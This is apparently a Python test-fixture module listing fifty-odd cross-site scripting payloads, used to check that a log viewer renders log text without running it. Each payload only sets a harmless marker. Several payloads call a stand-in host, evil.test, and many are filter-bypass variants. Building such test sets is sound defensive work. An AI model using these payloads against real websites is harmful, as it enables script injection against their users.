"""Fifty and more ways in which text of a log could try to run in a browser; each would mark the page."""

__all__ = ["MARK", "PAYLOADS"]

MARK = "data-pwned"
_RUN = "document.documentElement.dataset.pwned=1"
_URL = f"javascript:{_RUN}"

_ELEMENTS = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script src=data:text/javascript,{_RUN}></script>",
    "<script src=https://evil.test/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror='{_RUN}'>",
    f'<img/src="x"/onerror="{_RUN}">',
    f"<img src=x:x onerror\n=\n{_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='{_URL}'><text y=20>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<body onpageshow={_RUN}>",
    f"<iframe src='{_URL}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data='{_URL}'></object>",
    f"<embed src='{_URL}'>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}></textarea>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<meta http-equiv=refresh content='0;url={_URL}'>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<base href=https://evil.test/>",
    f"<style>@import 'https://evil.test/x.css';</style><script>{_RUN}</script>",
    f"<a href='{_URL}' autofocus onfocus={_RUN}>x</a>",
    f"<form action='{_URL}'><button autofocus onfocus={_RUN}>x</form>",
    f"<template><script>{_RUN}</script></template><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
]
# Each as it would have to begin to leave where the text stands: an attribute, a title, a script, a comment, a style.
_ESCAPES = ["\"'>", "</title>", "</script>", "--><!--", "</style>", "</textarea>", "]]>", "</svg>", "</details>", "`${"]
_OTHERS = [
    _URL,
    f"JaVaScRiPt:{_RUN}",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}',
    f"' onload='{_RUN}",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f"<\x00script>{_RUN}</script>",
    f"\u202e<img src=x onerror={_RUN}>",
    "__proto__",
]
PAYLOADS = [*_ELEMENTS, *(f"{escape}<img src=x onerror={_RUN}>" for escape in _ESCAPES), *_OTHERS]
